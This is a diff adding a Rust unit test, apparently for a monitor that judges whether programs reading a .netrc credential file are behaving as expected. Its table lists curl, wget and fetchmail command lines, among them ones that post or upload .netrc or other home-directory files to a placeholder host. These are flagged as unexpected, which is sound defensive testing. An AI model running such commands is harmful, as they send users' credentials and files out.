@@ -253,3 +253,33 @@ fn a_package_stands_for_a_place_that_only_root_can_write() {
         assert_eq!(answer.expected(), expected, "{name}: {answer:?}");
     }
 }
+
+/// What looks into the file by itself and could also send it is told by its arguments.
+#[test]
+fn arguments_take_back_what_the_name_says() {
+    for (line, expected) in [
+        ("curl --netrc https://example.invalid/", true),
+        ("curl -s -n https://example.invalid/", true),
+        ("curl https://example.invalid/", false),
+        ("curl -n -d @/home/ann/.netrc https://example.invalid/", false),
+        ("curl -n -T /home/ann/x https://example.invalid/", false),
+        ("curl -nsT /home/ann/x https://example.invalid/", false),
+        ("curl -n --upload /home/ann/x https://example.invalid/", false),
+        ("curl -n file:///home/ann/x", false),
+        ("curl -n --config x", false),
+        ("wget https://example.invalid/my-image.iso", true),
+        ("wget --post-data=x https://example.invalid/", true),
+        ("wget --post-f=/home/ann/x https://example.invalid/", false),
+        ("wget -qi /home/ann/x", false),
+        ("wget https://example.invalid/.netrc", false),
+        ("fetchmail --check", true),
+        ("fetchmail -f .netrc", false),
+    ] {
+        let name = line.split(' ').next().unwrap_or_default();
+        let mut reader = program(&format!("/usr/bin/{name}"), NO);
+        reader.args = line.split(' ').map(str::to_owned).collect();
+        assert_eq!(judged("netrc", &reader).expected(), expected, "{line}");
+        reader.args_truncated = true;
+        assert!(!judged("netrc", &reader).expected(), "{line}, and more");
+    }
+}
